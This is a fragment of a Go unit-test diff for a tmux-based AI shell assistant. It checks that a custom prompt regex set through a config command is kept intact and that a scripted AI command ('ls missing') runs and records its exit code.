+		"Checking. <ExecCommand>ls missing</ExecCommand>",
+		"Done. <RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	manager.getTmuxPanesInXml = manager.getTmuxPanesInXmlFn
+	captureOutput(t, func() {
+		manager.ProcessSubCommand(`/config set exec_prompt_regex ^\S+@\S+:\S+  \[(?P<code>\d+)\] \$ ?(?P<command>.*)$`)
+	})
+	assert.Equal(t, `^\S+@\S+:\S+  \[(?P<code>\d+)\] \$ ?(?P<command>.*)$`, manager.GetExecPromptRegex(), "Whitespace in the value is kept")
+
+	pane := "user@remote:~  [0] $ "
+	system.TmuxSendCommandToPane = func(paneId string, command string, enter bool) error {
+		pane = "user@remote:~  [0] $ ls missing\nls: missing: No such file\nuser@remote:~  [2] $ "
+		return nil
+	}
+	system.TmuxCapturePane = func(paneId string, maxLines int) (string, error) {
+		return pane, nil
+	}
+
+	captureOutput(t, func() {
+		manager.ProcessUserMessage(context.Background(), "is there a missing file")
+	})
+
+	assert.True(t, manager.ExecPane.IsPrepared)
+	if assert.Len(t, manager.ExecHistory, 1, "The command should have been run through ExecWaitCapture") {
+		assert.Equal(t, "ls missing", manager.ExecHistory[0].Command)
+		assert.Equal(t, 2, manager.ExecHistory[0].Code)
+	}
+}